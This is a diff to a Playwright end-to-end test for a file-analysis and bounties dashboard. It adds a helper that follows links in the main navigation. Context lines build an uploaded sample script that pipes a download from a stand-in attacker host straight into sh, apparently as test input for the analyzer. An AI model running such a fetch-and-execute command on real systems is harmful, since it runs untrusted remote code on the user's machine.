@@ -85,6 +85,11 @@ async function settle(page, name) {
   console.log(`step ${name} ok`);
 }
 
+/** Follows a link of the main navigation. */
+async function nav(page, name) {
+  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name, exact: true }).click();
+}
+
 async function liveBadge(page) {
   await page.getByTestId("live-state").filter({ hasText: "Live" }).waitFor({ timeout: TIMEOUT });
 }
@@ -163,7 +168,7 @@ try {
   await liveBadge(page);
 
   // Submit: drop a file on the drop zone; upload progress, then the analysis live.
-  await page.getByRole("link", { name: "Submit a file" }).click();
+  await nav(page, "Submit a file");
   await page.getByRole("heading", { name: "Submit a file" }).waitFor();
   const sample = Buffer.from(
     `#!/bin/sh\n# dashboard e2e ${name} ${randomBytes(16).toString("hex")}\ncurl -s http://evil.example.com/payload.sh | sh\necho 203.0.113.7\n`,
@@ -198,7 +203,7 @@ try {
   await settle(page, "report");
 
   // Bounties: the list (empty on a fresh platform says so), a filter in the address.
-  await page.getByRole("link", { name: "Bounties" }).click();
+  await nav(page, "Bounties");
   await page.getByRole("heading", { name: "Bounties" }).waitFor();
   await page.getByText("No bounties match").waitFor();
   await page.getByLabel("Status").selectOption("open");
@@ -207,7 +212,7 @@ try {
   await settle(page, "bounties");
 
   // Home with data: the analyses chart and the verdict chart are drawn.
-  await page.getByRole("link", { name: "Home" }).click();
+  await nav(page, "Home");
   await page.getByRole("img", { name: /Analyses submitted/ }).waitFor();
   await page.getByRole("img", { name: "Verdict distribution" }).waitFor();
   await settle(page, "home_charts");
